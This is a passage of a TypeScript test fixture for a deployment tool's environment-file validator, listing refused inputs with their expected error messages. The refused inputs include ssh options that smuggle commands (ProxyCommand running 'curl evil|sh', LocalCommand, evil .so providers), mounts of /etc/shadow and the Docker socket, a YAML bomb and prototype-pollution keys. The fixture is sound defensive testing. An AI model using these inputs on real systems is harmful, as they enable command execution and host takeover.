/**
 * Hostile and careless environment files that must be refused before anything is written,
 * each with every issue it raises, exactly: `file:line:col: key: message`. Grown from the
 * families of issue 9. Files named here (FIFO, directory, big files, symbolic links) are made
 * by `makeHostileFiles` in the temp directory the environment is written to.
 */
import * as fs from 'fs';
import * as path from 'path';
import { execFileSync } from 'child_process';
import { stringify } from 'yaml';
import { baseline } from '../support/environments';

type Env = Record<string, any>;
export interface RefusedCase {
  readonly family: string;
  readonly name: string;
  /** A change of the baseline environment, or the raw text of the file. */
  readonly file: ((env: Env) => void) | string;
  /** Every issue, in order. */
  readonly refused: readonly string[];
}

/** The baseline as YAML text, for raw cases. */
export const BASELINE_YAML = stringify(baseline());

const LDAP = {
  url: 'ldaps://ldap.example.com:636',
  managerDN: 'cn=r,dc=example,dc=com',
  searchBase: 'dc=example,dc=com',
  userSearchFilter: 'uid=%s',
};
const KERBEROS = { realm: 'EXAMPLE.COM', kdc: ['kdc.example.com'], adminServer: 'kdc.example.com', keytabFile: 'xuc.keytab' };
const OIDC = { serverUrl: 'https://id.example.com/realms/x', clientId: 'web' };
const EDGE_SERVER = { name: 'dmz', address: '192.0.2.10', docker: { host: 'ssh://deploy@192.0.2.10' }, roles: ['edge'] };

const setEnv = (id: string, values: Record<string, unknown>) => (e: Env) => {
  e.services = { ...(e.services ?? {}), [id]: { ...(e.services?.[id] ?? {}), env: values } };
};
const setService = (id: string, values: Record<string, unknown>) => (e: Env) => {
  e.services = { ...(e.services ?? {}), [id]: values };
};
const withAuth = (auth: Record<string, unknown>) => (e: Env) => {
  e.auth = auth;
};
const ssh =
  (...opts: string[]) =>
  (e: Env) => {
    e.servers[0].docker.sshOpts = opts;
  };
const mount = (id: string, volume: Record<string, unknown>) => setService(id, { volumes: [volume] });
const hostMount = (hostPath: string) => mount('cc.kibana', { hostPath, containerPath: '/data/extra' });
const jvm = (...extraOptions: string[]) => withAuth({ jvm: { extraOptions } });
const withEdge = (edge: Record<string, unknown>) => (e: Env) => {
  e.servers.push(EDGE_SERVER);
  e.edge = { publicName: 'rpx.example.com', ...edge };
};
const raw = (...lines: string[]) => `${BASELINE_YAML}${lines.join('\n')}\n`;
/** The baseline with its `release` line replaced. */
const releaseLine = (line: string) => BASELINE_YAML.replace('release: "2024.05"', line);

/** Files the cases name, in the directory of the environment file. */
export function makeHostileFiles(dir: string): void {
  const fifo = path.join(dir, 'ca.fifo');
  if (!fs.existsSync(fifo)) execFileSync('mkfifo', [fifo]);
  fs.mkdirSync(path.join(dir, 'certs.d'), { recursive: true });
  fs.writeFileSync(path.join(dir, 'big.keytab'), Buffer.alloc(64 * 1024 + 1));
  fs.writeFileSync(path.join(dir, 'big.pem'), Buffer.alloc(1024 * 1024 + 1, 'A'));
  const link = path.join(dir, 'passwd.pem');
  if (!fs.existsSync(link)) fs.symlinkSync('/etc/passwd', link);
}

const PLAIN_PATH =
  'must be a plain file path relative to the environment file, without quotes, backslashes, "${", "%{" or control characters (Terraform reads it with file())';
const TOKEN =
  "holds a cdktf token (TfToken[...]): cdktf would replace it with another resource's value (a key, the shared token); write the literal value";
const CONTROL =
  'holds a control character or a line break (a newline, a Unicode line separator, a tab in a URL, an escape, NUL, carriage return...) that would be stripped, split or passed on silently: write the value on one line, without it';
const SSH_ALLOWED =
  '-i FILE, -p PORT, -J HOST, -o with StrictHostKeyChecking, UserKnownHostsFile, ConnectTimeout, ServerAliveInterval, ServerAliveCountMax, IdentitiesOnly, IdentityFile, Port, ProxyJump';
const SSH_OPTIONS =
  'StrictHostKeyChecking, UserKnownHostsFile, ConnectTimeout, ServerAliveInterval, ServerAliveCountMax, IdentitiesOnly, IdentityFile, Port, ProxyJump';
const sshFlag = (flag: string) =>
  `"${flag}" is not an allowed ssh option (ssh runs on the machine that plans, with its secrets): use only ${SSH_ALLOWED}`;
const sshOption = (name: string) =>
  `-o ${name} is not allowed (it can run a command or load other configuration on the machine that plans): use only ${SSH_OPTIONS}`;
const system = (p: string, root: string) =>
  `"${p}" is a system path (under ${root}): a container writing there changes the host (or is root on it through the Docker socket); mount a directory of its own such as /srv/<service>, or set allowSystemPath: true`;
const ours = (p: string, dir: string) =>
  `"${p}" overlaps ${dir}, where this project writes its host files (custom.env with the shared token, certificates): mount another directory`;
const TF_VARS = 'TF_VAR_play_auth_token, TF_VAR_ldap_manager_password, TF_VAR_kerberos_password, TF_VAR_xuc_truststore_password';
const secretEnv = (name: string, id: string) =>
  `"${name}" names a secret: its value would be written in cdk.tf.json, plans and CI logs; use the Terraform variables this project declares (${TF_VARS}), or put the secret in a file on the Docker host and mount it read-only (services["${id}"].volumes with hostPath)`;
const jvmSecret = (name: string) =>
  `-D${name} names a secret: JAVA_OPTS is written in cdk.tf.json and shown by docker inspect; the auth section passes its secrets from TF_VAR_ldap_manager_password, TF_VAR_kerberos_password, TF_VAR_xuc_truststore_password; give other secrets to xuc in a file mounted read-only`;
const COMPOSED =
  'is composed from the auth section (an override would drop authentication modes or JVM flags): remove it and use auth (auth.jvm.extraOptions for JVM flags)';
const outside = (file: string) =>
  `"${file}" resolves outside the environment file's directory: move the file next to the environment file, or declare its directory in XIVO_SECRETS_DIRS when running synth`;
const userInfo = (instead: string) =>
  `holds user info (user:password@): credentials in a URL are written in cdk.tf.json and logs; remove them, ${instead}`;

export const REFUSED_CASES: readonly RefusedCase[] = [
  // 1. cdktf tokens: cdktf would resolve them to another resource's value.
  ...(
    [
      ['env value', setEnv('cc.xuc', { FOO: '${TfToken[TOKEN.4]}' }), `services["cc.xuc"].env.FOO`],
      ['env value with text around', setEnv('cc.kibana', { X: 'a${TfToken[TOKEN.12]}b' }), `services["cc.kibana"].env.X`],
      ['list token', setEnv('cc.xuc', { FOO: '#{TfToken[TOKEN.7]}' }), `services["cc.xuc"].env.FOO`],
      ['image', setService('cc.xuc', { image: '${TfToken[TOKEN.1]}' }), `services["cc.xuc"].image`],
      ['oidc audience', withAuth({ oidc: { ...OIDC, audience: '${TfToken[TOKEN.4]}' } }), 'auth.oidc.audience'],
      ['jvm option', jvm('-Dx=${TfToken[TOKEN.4]}'), 'auth.jvm.extraOptions[0]'],
      ['LDAP manager DN', withAuth({ ldap: { ...LDAP, managerDN: 'cn=${TfToken[TOKEN.3]}' } }), 'auth.ldap.managerDN'],
      [
        'container path',
        mount('cc.kibana', { volume: 'v', containerPath: '/x/${TfToken[TOKEN.2]}' }),
        `services["cc.kibana"].volumes[0].containerPath`,
      ],
      ['lower-case token', setEnv('cc.xuc', { FOO: '${tftoken[token.4]}' }), `services["cc.xuc"].env.FOO`],
      ['env key', setEnv('cc.xuc', { '${TfToken[TOKEN.4]}': 'x' }), `services["cc.xuc"].env["\${TfToken[TOKEN.4]}"]`],
      ['service key', setService('${TfToken[TOKEN.9]}', { enabled: false }), `services["\${TfToken[TOKEN.9]}"]`],
    ] as const
  ).map(([name, file, key]): RefusedCase => ({ family: 'cdktf token', name, file, refused: [`${key}: ${TOKEN}`] })),
  {
    family: 'cdktf token',
    name: 'number token',
    file: setService('cc.xuc', { memoryMb: -8.109562212591379e298 }),
    refused: ['services["cc.xuc"].memoryMb: is a number cdktf reserves for its tokens: write another number'],
  },

  // 15. Values silently changed: control characters, YAML tags, reserved keys.
  ...(
    [
      ['CAS URL with a newline', withAuth({ cas: { serverUrl: 'https://cas.example.com/\ncas' } }), 'auth.cas.serverUrl'],
      ['OIDC URL with a tab', withAuth({ oidc: { ...OIDC, serverUrl: 'https://id.example.com/\trealms/x' } }), 'auth.oidc.serverUrl'],
      ['LDAP URL with a carriage return', withAuth({ ldap: { ...LDAP, url: 'ldaps://ldap.example.com:636\r' } }), 'auth.ldap.url'],
      ['backend address with a newline', (e: Env) => (e.backend = { type: 'http', address: 'https://state.example.com/\nx' }), 'backend.address'],
      ['image with an escape', setService('cc.xuc', { image: 'xivoxc/xuc\u001b[2J' }), `services["cc.xuc"].image`],
      ['DN with NUL', withAuth({ ldap: { ...LDAP, managerDN: 'cn=r\u0000,dc=x' } }), 'auth.ldap.managerDN'],
      ['env value with a carriage return', setEnv('cc.xuc', { FOO: 'a\rb' }), `services["cc.xuc"].env.FOO`],
      ['key with a newline', setEnv('cc.xuc', { 'A\nB': 'x' }), `services["cc.xuc"].env["A\\nB"]`],
      ['env value with a newline', setEnv('cc.xuc', { FOO: 'a\nb' }), `services["cc.xuc"].env.FOO`],
      ['OIDC field with a newline', withAuth({ oidc: { ...OIDC, usernameField: 'preferred\nusername' } }), 'auth.oidc.usernameField'],
      ['env value with a Unicode line separator', setEnv('cc.xuc', { FOO: 'a\u2028b' }), `services["cc.xuc"].env.FOO`],
      ['LDAP filter with a paragraph separator', withAuth({ ldap: { ...LDAP, userSearchFilter: '(uid=%s)\u2029' } }), 'auth.ldap.userSearchFilter'],
      ['env value with a NEL', setEnv('cc.xuc', { FOO: 'a\u0085b' }), `services["cc.xuc"].env.FOO`],
    ] as const
  ).map(([name, file, key]): RefusedCase => ({ family: 'control character', name, file, refused: [`${key}: ${CONTROL}`] })),
  ...(
    [
      [
        '!env tag',
        raw('dist: !env XIVO_DIST'),
        'test.yaml:19:12: dist: the YAML tag "!env" is not supported (it would be read as a plain string): remove it and write the value itself, quoted if needed',
      ],
      [
        '!!js/function tag',
        raw('dist: !!js/function "function(){}"'),
        'test.yaml:19:21: dist: the YAML tag "!!js/function" is not supported (it would be read as a plain string): remove it and write the value itself, quoted if needed',
      ],
      [
        '!!binary tag',
        raw('dist: !!binary aGVsbG8='),
        'test.yaml:19:16: dist: the YAML tag "!!binary" is not supported (it would be read as a plain string): remove it and write the value itself, quoted if needed',
      ],
      [
        '!!set tag',
        raw('services: !!set { cc.kibana }'),
        'test.yaml:19:17: services: the YAML tag "!!set" is not supported (it would be read as a plain string): remove it and write the value itself, quoted if needed',
      ],
      [
        'local tag on a server',
        BASELINE_YAML.replace('  - name: pbx', '  - !server\n    name: pbx'),
        'test.yaml:8:5: servers[0]: the YAML tag "!server" is not supported (it would be read as a plain string): remove it and write the value itself, quoted if needed',
      ],
      [
        '__proto__ at the top',
        raw('__proto__: { polluted: true }'),
        'test.yaml:19:1: __proto__: "__proto__" is not an accepted key (JavaScript drops or misreads it): remove it',
      ],
      [
        '__proto__ in env',
        raw('services:', '  cc.xuc:', '    env:', '      __proto__: x'),
        'test.yaml:22:7: services["cc.xuc"].env.__proto__: "__proto__" is not an accepted key (JavaScript drops or misreads it): remove it',
      ],
      [
        'constructor key',
        raw('services:', '  constructor: { enabled: false }'),
        'test.yaml:20:3: services.constructor: "constructor" is not an accepted key (JavaScript drops or misreads it): remove it',
      ],
      [
        'prototype key',
        raw('auth:', '  prototype: {}'),
        'test.yaml:20:3: auth.prototype: "prototype" is not an accepted key (JavaScript drops or misreads it): remove it',
      ],
      [
        'billion laughs',
        raw(
          'a0: &a0 [x, x, x, x, x, x, x, x, x, x]',
          ...Array.from({ length: 8 }, (_, i) => `a${i + 1}: &a${i + 1} [${Array(10).fill(`*a${i}`).join(', ')}]`),
        ),
        'test.yaml:20:10: (top level): uses too many YAML aliases (*name), as a "billion laughs" file does: write the values out, or reference each anchor only a few times',
      ],
    ] as const
  ).map(([name, file, issue]): RefusedCase => ({ family: 'YAML', name, file, refused: [issue] })),

  // 14. Type mismatches say what was found and the fix.
  ...(
    [
      [
        'release unquoted',
        releaseLine('release: 2024.10'),
        'test.yaml:2:1: release: must be a string but is a number (2024.10): quote it, "2024.10" (YAML reads it as a number otherwise)',
      ],
      [
        'outbound length in words',
        (e: Env) => (e.auth = { outboundQueue: { name: 'outbound', number: '3000', outboundLength: 'six' } }),
        'auth.outboundQueue.outboundLength: must be a number but is a string ("six"): write digits without quotes, e.g. 6',
      ],
      [
        'queue number unquoted',
        (e: Env) => (e.auth = { outboundQueue: { name: 'outbound', number: 3000 } }),
        'auth.outboundQueue.number: must be a string but is a number (3000): quote it, "3000" (YAML reads it as a number otherwise)',
      ],
      [
        'memory as a string',
        setService('cc.xuc', { memoryMb: '4096' }),
        'services["cc.xuc"].memoryMb: is in MiB, a number without quotes: write memoryMb: 4096',
      ],
      [
        'enabled as "yes"',
        setService('cc.kibana', { enabled: 'no' }),
        'services["cc.kibana"].enabled: must be true or false but is a string ("no"): write true or false without quotes',
      ],
      [
        'roles as one string',
        (e: Env) => (e.servers[0].roles = 'xivo'),
        'servers[0].roles: must be a list but is a string ("xivo"): write a list, e.g. [xivo]',
      ],
      [
        'docker as a URL',
        (e: Env) => (e.servers[0].docker = 'ssh://deploy@10.0.0.10'),
        'servers[0].docker: must be a mapping (key: value) but is a string ("ssh://deploy@10.0.0.10")',
      ],
      [
        'env value as a number',
        setEnv('cc.xuc', { TIMEOUT: 30 }),
        'services["cc.xuc"].env.TIMEOUT: must be a string but is a number (30): quote it, "30" (YAML reads it as a number otherwise)',
      ],
      [
        'env value as a boolean',
        setEnv('cc.xuc', { FLAG: true }),
        'services["cc.xuc"].env.FLAG: must be a string but is a boolean (true): quote it, "true" (YAML reads it as a boolean otherwise)',
      ],
      [
        'port as a string',
        setService('cc.xuc', { ports: { http: '8090' } }),
        'services["cc.xuc"].ports.http: must be a number but is a string ("8090"): write digits without quotes, e.g. 6',
      ],
      ['empty address', (e: Env) => (e.servers[0].address = null), 'servers[0].address: is empty: write a string or remove the key'],
      ['servers as a mapping', (e: Env) => (e.servers = { pbx: e.servers[0] }), 'servers: must be a list but is a mapping'],
      [
        'empty file',
        '',
        'test.yaml: (top level): the file is empty: an environment file is a mapping with name, release, publicNames and servers (see docs/environment.md)',
      ],
    ] as const
  ).map(([name, file, issue]): RefusedCase => ({ family: 'type mismatch', name, file, refused: [issue] })),

  // 14. Our wording of bounds and formats, and "did you mean".
  ...(
    [
      ['login timeout too small', withAuth({ loginTimeoutMs: 10 }), 'auth.loginTimeoutMs: must be at least 1000'],
      ['login timeout too large', withAuth({ loginTimeoutMs: 999999 }), 'auth.loginTimeoutMs: must be at most 120000'],
      [
        'memory too small',
        setService('cc.xuc', { memoryMb: 10 }),
        'services["cc.xuc"].memoryMb: is in MiB: 10 MiB is too little for a container (at least 64); for 10 GiB write memoryMb: 10240',
      ],
      ['port out of range', setService('cc.xuc', { ports: { http: 70000 } }), 'services["cc.xuc"].ports.http: must be at most 65535'],
      [
        'port not whole',
        setService('cc.xuc', { ports: { http: 80.5 } }),
        'services["cc.xuc"].ports.http: must be a whole number but is a number (80.5)',
      ],
      ['empty image', setService('cc.xuc', { image: '' }), 'services["cc.xuc"].image: must not be empty'],
      ['CA validity too long', (e: Env) => (e.tls = { caValidityDays: 99999 }), 'tls.caValidityDays: must be at most 7300'],
      ['log files zero', (e: Env) => (e.logging = { maxFile: 0 }), 'logging.maxFile: must be at least 1'],
      [
        'log size without unit',
        (e: Env) => (e.logging = { maxSize: '50' }),
        'logging.maxSize: does not have the expected form (/^\\d+[kmg]$/): see docs/environment.md',
      ],
      [
        'empty encryption types',
        withAuth({ kerberos: { ...KERBEROS, encryptionTypes: [] } }),
        'auth.kerberos.encryptionTypes: must list at least one item',
      ],
      ['ldpa', withAuth({ ldpa: LDAP }), 'auth.ldpa: unknown key "ldpa"; did you mean "ldap"?'],
      [
        'role pbxx',
        (e: Env) => (e.servers[0].roles = ['pbxx']),
        'servers[0].roles[0]: is not a role: use one of xivo, mds, cc, ucaddon, edge; did you mean "xivo"?',
      ],
      [
        'role pbx',
        (e: Env) => (e.servers[0].roles = ['pbx']),
        'servers[0].roles[0]: is not a role: use one of xivo, mds, cc, ucaddon, edge; did you mean "xivo"?',
      ],
      [
        'role uc-addon',
        (e: Env) => (e.servers[1].roles = ['uc-addon']),
        'servers[1].roles[0]: is not a role: use one of xivo, mds, cc, ucaddon, edge; did you mean "ucaddon"?',
      ],
      [
        'publicNames.xucHots',
        (e: Env) => (e.publicNames.xucHots = 'cc.example.com'),
        'publicNames.xucHots: unknown key "xucHots"; did you mean "xucHost"?',
      ],
      ['tls.mod', (e: Env) => (e.tls = { mod: 'provided' }), 'tls.mod: unknown key "mod"; did you mean "mode"?'],
      [
        'tls mode self-sign',
        (e: Env) => (e.tls = { mode: 'self-sign' }),
        'tls.mode: must be one of internal-ca, self-signed, provided; did you mean "self-signed"?',
      ],
      ['key algorithm rsa', (e: Env) => (e.tls = { key: { algorithm: 'rsa' } }), 'tls.key.algorithm: must be "RSA" or "ECDSA"; did you mean "RSA"?'],
      [
        'kerberos keytab spelling',
        withAuth({ kerberos: { ...KERBEROS, keytab: 'x' } }),
        'auth.kerberos.keytab: unknown key "keytab"; did you mean "keytabFile"?',
      ],
      ['unrelated unknown key', (e: Env) => (e.colour = 'blue'), 'colour: unknown key "colour": check its spelling against docs/environment.md'],
    ] as const
  ).map(([name, file, issue]): RefusedCase => ({ family: 'wording', name, file, refused: [issue] })),
  {
    family: 'wording',
    name: 'a foreign file: unknown keys capped at 20, long keys cut',
    file: Array.from({ length: 25 }, (_, i) => `user${i}:${'x'.repeat(i === 0 ? 60 : 3)}: 1`).join('\n'),
    refused: [
      'test.yaml:1:1: name: is required (string)',
      'test.yaml:1:1: release: is required (string)',
      'test.yaml:1:1: publicNames: is required (object)',
      'test.yaml:1:1: servers: is required (array)',
      `test.yaml:1:1: ["user0:${'x'.repeat(34)}…"]: unknown key "user0:${'x'.repeat(34)}… (66 characters)": check its spelling against docs/environment.md`,
      ...Array.from(
        { length: 19 },
        (_, i) => `test.yaml:${i + 2}:1: ["user${i + 1}:xxx"]: unknown key "user${i + 1}:xxx": check its spelling against docs/environment.md`,
      ),
      'test.yaml:1:1: (top level): ... and 5 more unknown keys: is this an environment file? (20 shown)',
    ],
  },

  // 2. ssh options: an allow-list.
  ...(
    [
      ['ProxyCommand', ssh('-o', 'ProxyCommand=sh -c "curl evil|sh"'), 1, sshOption('ProxyCommand')],
      ['ProxyCommand joined', ssh('-oProxyCommand=touch /tmp/pwned'), 0, sshOption('ProxyCommand')],
      ['ProxyCommand with a space', ssh('-o', 'ProxyCommand touch /tmp/pwned'), 1, sshOption('ProxyCommand')],
      ['proxycommand lower case', ssh('-o', 'proxycommand=id'), 1, sshOption('proxycommand')],
      ['LocalCommand', ssh('-o', 'LocalCommand=id'), 1, sshOption('LocalCommand')],
      ['PermitLocalCommand', ssh('-o', 'PermitLocalCommand=yes'), 1, sshOption('PermitLocalCommand')],
      ['KnownHostsCommand', ssh('-o', 'KnownHostsCommand=/bin/sh -c id'), 1, sshOption('KnownHostsCommand')],
      ['Match exec', ssh('-o', 'Match exec "id"'), 1, sshOption('Match')],
      ['Include', ssh('-o', 'Include=/tmp/evil.conf'), 1, sshOption('Include')],
      ['PKCS11Provider', ssh('-o', 'PKCS11Provider=/tmp/evil.so'), 1, sshOption('PKCS11Provider')],
      ['SecurityKeyProvider', ssh('-o', 'SecurityKeyProvider=/tmp/evil.so'), 1, sshOption('SecurityKeyProvider')],
      ['ControlPath', ssh('-o', 'ControlPath=/tmp/%r'), 1, sshOption('ControlPath')],
      ['SendEnv', ssh('-o', 'SendEnv=*'), 1, sshOption('SendEnv')],
      ['-F', ssh('-F', '/tmp/evil_config'), 0, sshFlag('-F')],
      ['-L forward', ssh('-L', '2375:localhost:2375'), 0, sshFlag('-L')],
      ['-R forward', ssh('-R', '9000:localhost:22'), 0, sshFlag('-R')],
      ['-E log file', ssh('-E', '/etc/cron.d/x'), 0, sshFlag('-E')],
      ['-v', ssh('-v'), 0, sshFlag('-v')],
      ['not a flag', ssh('StrictHostKeyChecking=no'), 0, sshFlag('StrictHostKeyChecking=no')],
      ['-p not a number', ssh('-p', '22 -oProxyCommand=id'), 1, 'is not a port number: write it without spaces, quotes, "$" or shell characters'],
      [
        '-J with a command',
        ssh('-J', 'jump;id'),
        1,
        'is not a jump host [user@]host[:port]: write it without spaces, quotes, "$" or shell characters',
      ],
      ['-i an option', ssh('-i', '-oProxyCommand=id'), 1, 'is not an identity file path: write it without spaces, quotes, "$" or shell characters'],
      ['-i with $()', ssh('-i', '$(id)'), 1, 'is not an identity file path: write it without spaces, quotes, "$" or shell characters'],
      [
        'StrictHostKeyChecking junk',
        ssh('-o', 'StrictHostKeyChecking=maybe'),
        1,
        'is not a valid StrictHostKeyChecking value: write it without spaces, quotes, "$" or shell characters',
      ],
      ['-o without value', ssh('-o'), 0, '"-o" needs a value as the next item, e.g. ["-o", "ConnectTimeout=10"]'],
    ] as const
  ).map(([name, file, index, message]): RefusedCase => ({
    family: 'ssh options',
    name,
    file,
    refused: [`servers[0].docker.sshOpts[${index}]: ${message}`],
  })),

  // 5. Bind mounts.
  ...(
    [
      ['/', '/', system('/', '/')],
      ['/etc', '/etc', system('/etc', '/etc')],
      ['/etc/ (trailing slash)', '/etc/', system('/etc/', '/etc')],
      ['/etc/shadow', '/etc/shadow', system('/etc/shadow', '/etc')],
      ['/usr', '/usr', system('/usr', '/usr')],
      ['/proc/1', '/proc/1', system('/proc/1', '/proc')],
      ['/sys', '/sys', system('/sys', '/sys')],
      ['/dev', '/dev', system('/dev', '/dev')],
      ['/boot', '/boot', system('/boot', '/boot')],
      ['/root/.ssh', '/root/.ssh', system('/root/.ssh', '/root')],
      ['Docker socket', '/var/run/docker.sock', system('/var/run/docker.sock', '/var/run/docker.sock')],
      ['Docker socket under /run', '/run/docker.sock', system('/run/docker.sock', '/run/docker.sock')],
      ['Docker data', '/var/lib/docker/volumes', system('/var/lib/docker/volumes', '/var/lib/docker')],
      ['double slash', '//etc', system('//etc', '/etc')],
      ['token file directory', '/etc/docker/compose', ours('/etc/docker/compose', '/etc/docker')],
      ['XiVO host files', '/etc/docker/xivo', ours('/etc/docker/xivo', '/etc/docker')],
      ['MDS host files', '/etc/docker/mds/', ours('/etc/docker/mds/', '/etc/docker')],
      ['front certificates', '/etc/docker/nginx/ssl', ours('/etc/docker/nginx/ssl', '/etc/docker')],
      ['CTI certificates', '/usr/share/xivo-certs', ours('/usr/share/xivo-certs', '/usr/share/xivo-certs')],
      ['parent of our directories', '/etc/docker', ours('/etc/docker', '/etc/docker')],
    ] as const
  ).map(([name, hostPath, message]): RefusedCase => ({
    family: 'bind mount',
    name,
    file: hostMount(hostPath),
    refused: [`services["cc.kibana"].volumes[0].hostPath: ${message}`],
  })),
  ...(
    [
      [
        '".." escaping /srv',
        hostMount('/srv/../etc'),
        [
          'services["cc.kibana"].volumes[0].hostPath: "/srv/../etc" contains "..": write the normalised absolute path (/etc)',
          `services["cc.kibana"].volumes[0].hostPath: ${system('/srv/../etc', '/etc')}`,
        ],
      ],
      [
        '/ with allowSystemPath still covers our directories',
        mount('cc.kibana', { hostPath: '/', containerPath: '/host', allowSystemPath: true }),
        [`services["cc.kibana"].volumes[0].hostPath: ${ours('/', '/etc/docker')}`],
      ],
      [
        '"..": allowSystemPath does not hide it',
        mount('cc.kibana', { hostPath: '/srv/x/../y', containerPath: '/data/y', allowSystemPath: true }),
        ['services["cc.kibana"].volumes[0].hostPath: "/srv/x/../y" contains "..": write the normalised absolute path (/srv/y)'],
      ],
      [
        'our directories even with allowSystemPath',
        mount('cc.kibana', { hostPath: '/etc/docker/compose', containerPath: '/x', allowSystemPath: true }),
        [`services["cc.kibana"].volumes[0].hostPath: ${ours('/etc/docker/compose', '/etc/docker')}`],
      ],
      [
        'over xuc.conf',
        mount('cc.xuc', { hostPath: '/srv/xuc', containerPath: '/conf' }),
        [
          'services["cc.xuc"].volumes[0].containerPath: "/conf" covers /conf/xuc.conf, which is delivered into the container at create time and would be written through onto the host: mount elsewhere',
        ],
      ],
      [
        'over /etc of xuc',
        mount('cc.xuc', { hostPath: '/srv/xuc', containerPath: '/etc' }),
        [
          'services["cc.xuc"].volumes[0].containerPath: "/etc" covers /etc/krb5.conf, which is delivered into the container at create time and would be written through onto the host: mount elsewhere',
        ],
      ],
      [
        'over the keytab',
        mount('cc.xuc', { hostPath: '/srv/krb', containerPath: '/etc/kerberos' }),
        [
          'services["cc.xuc"].volumes[0].containerPath: "/etc/kerberos" covers /etc/kerberos/xuc.keytab, which is delivered into the container at create time and would be written through onto the host: mount elsewhere',
        ],
      ],
      [
        'over the truststore',
        mount('cc.xuc', { volume: 'ts', containerPath: '/customSslTrustStore' }),
        [
          'services["cc.xuc"].volumes[0].containerPath: "/customSslTrustStore" covers /customSslTrustStore, which is delivered into the container at create time and would be written through onto the host: mount elsewhere',
        ],
      ],
      [
        'over nginx.conf',
        mount('cc.nginx', { hostPath: '/srv/nginx', containerPath: '/etc/nginx' }),
        [
          'services["cc.nginx"].volumes[0].containerPath: "/etc/nginx" covers /etc/nginx/nginx.conf, which is delivered into the container at create time and would be written through onto the host: mount elsewhere',
        ],
      ],
      [
        'over the database volume',
        mount('cc.pgxivocc', { hostPath: '/srv/pg', containerPath: '/var/lib/postgresql' }),
        [
          'services["cc.pgxivocc"].volumes[0].containerPath: "/var/lib/postgresql" covers the catalogue volume at /var/lib/postgresql/data of this service: mount elsewhere, or disable the service\'s volume',
        ],
      ],
      [
        'inside the recordings volume',
        mount('cc.recording-server', { hostPath: '/srv/rec', containerPath: '/var/spool/recording-server/x' }),
        [
          'services["cc.recording-server"].volumes[0].containerPath: "/var/spool/recording-server/x" covers the catalogue volume at /var/spool/recording-server of this service: mount elsewhere, or disable the service\'s volume',
        ],
      ],
      [
        'container ".."',
        mount('cc.kibana', { volume: 'v', containerPath: '/data/../conf' }),
        ['services["cc.kibana"].volumes[0].containerPath: "/data/../conf" contains "..": write the normalised absolute path (/conf)'],
      ],
      [
        'allowSystemPath on a volume',
        mount('cc.kibana', { volume: 'v', containerPath: '/data/v', allowSystemPath: true }),
        ['services["cc.kibana"].volumes[0].allowSystemPath: only applies to hostPath mounts: remove it'],
      ],
    ] as const
  ).map(([name, file, refused]): RefusedCase => ({ family: 'bind mount', name, file, refused })),

  // 6. Literal secrets.
  ...(
    [
      ['DB_PASSWORD', 'cc.xuc', 'DB_PASSWORD'],
      ['db_password lower case', 'cc.kibana', 'db_password'],
      ['Secret mixed case', 'cc.kibana', 'Client_Secret'],
      ['API_TOKEN', 'cc.xucmgt', 'API_TOKEN'],
      ['PRIVATE_KEY', 'cc.nginx', 'PRIVATE_KEY'],
      ['APIKEY', 'cc.spagobi', 'APIKEY'],
      ['AWS secret', 'cc.recording-server', 'AWS_SECRET_ACCESS_KEY'],
      ['PASSWD', 'cc.pgxivocc', 'POSTGRES_PASSWD'],
      ['PWD', 'cc.pgxivocc', 'LDAP_PWD'],
      ['PASS', 'cc.pgxivocc', 'DB_PASS'],
      ['passphrase', 'cc.nginx', 'SSL_PASSPHRASE'],
      ['credentials', 'cc.elasticsearch', 'CREDENTIALS'],
    ] as const
  ).map(([name, id, variable]): RefusedCase => ({
    family: 'secret',
    name,
    file: setEnv(id, { [variable]: 'hunter2' }),
    refused: [`services["${id}"].env.${variable}: ${secretEnv(variable, id)}`],
  })),
  ...(
    [
      ['-D password in JAVA_OPTS of SpagoBI', 'cc.spagobi', 'JAVA_OPTS', '-Xmx1g -Dspagobi.db.password=hunter2', 'spagobi.db.password'],
      ['-D secret in CATALINA_OPTS', 'cc.spagobi', 'CATALINA_OPTS', '-Dclient.Secret=x -Dother=1', 'client.Secret'],
    ] as const
  ).map(([name, id, variable, value, property]): RefusedCase => ({
    family: 'secret',
    name,
    file: setEnv(id, { [variable]: value }),
    refused: [
      `services["${id}"].env.${variable}: holds -D${property}, which names a secret: env values are written in cdk.tf.json and shown by docker inspect; put the secret in a file on the Docker host and mount it read-only (services["${id}"].volumes with hostPath)`,
    ],
  })),
  ...(
    [
      ['-D password', '-Ddb.password=hunter2', jvmSecret('db.password')],
      ['-D token, upper case', '-DAPI.TOKEN=x', jvmSecret('API.TOKEN')],
      ['-D keyStorePassword', '-Djavax.net.ssl.keyStorePassword=x', jvmSecret('javax.net.ssl.keyStorePassword')],
      [
        '-D secured.krb5.password',
        '-Dsecured.krb5.password=x',
        '-Dsecured.krb5.password is composed by auth.kerberos (principal, keyTab, password from TF_VAR_kerberos_password): configure auth.kerberos instead',
      ],
      [
        '-D secured.krb5.keyTab',
        '-Dsecured.krb5.keyTab=/tmp/k',
        '-Dsecured.krb5.keyTab is composed by auth.kerberos (principal, keyTab, password from TF_VAR_kerberos_password): configure auth.kerberos instead',
      ],
      [
        '-D trustStore',
        '-Djavax.net.ssl.trustStore=/tmp/ts',
        '-Djavax.net.ssl.trustStore is composed by auth.ldap.caFile (truststore built at deploy, password from TF_VAR_xuc_truststore_password): give the CA with auth.ldap.caFile instead',
      ],
      [
        '-D trustStorePassword',
        '-Djavax.net.ssl.trustStorePassword=changeit',
        '-Djavax.net.ssl.trustStorePassword is composed by auth.ldap.caFile (truststore built at deploy, password from TF_VAR_xuc_truststore_password): give the CA with auth.ldap.caFile instead',
      ],
    ] as const
  ).map(([name, option, message]): RefusedCase => ({ family: 'secret', name, file: jvm(option), refused: [`auth.jvm.extraOptions[0]: ${message}`] })),
  ...(
    [
      [
        'LDAP URL with user',
        withAuth({ ldap: { ...LDAP, url: 'ldaps://admin@ldap.example.com:636' } }),
        'auth.ldap.url',
        userInfo('the bind account is auth.ldap.managerDN and its password TF_VAR_ldap_manager_password'),
      ],
      [
        'CAS URL with password',
        withAuth({ cas: { serverUrl: 'https://u:p@cas.example.com/cas' } }),
        'auth.cas.serverUrl',
        userInfo('the CAS server URL takes no credentials'),
      ],
      [
        'OIDC URL with password',
        withAuth({ oidc: { ...OIDC, serverUrl: 'https://client:secret@id.example.com/realms/x' } }),
        'auth.oidc.serverUrl',
        userInfo('the OIDC realm URL takes no credentials (the clients are public)'),
      ],
      [
        'backend with password',
        (e: Env) => (e.backend = { type: 'http', address: 'https://tf:pw@state.example.com/x' }),
        'backend.address',
        userInfo('the http backend reads TF_HTTP_USERNAME and TF_HTTP_PASSWORD at plan time'),
      ],
    ] as const
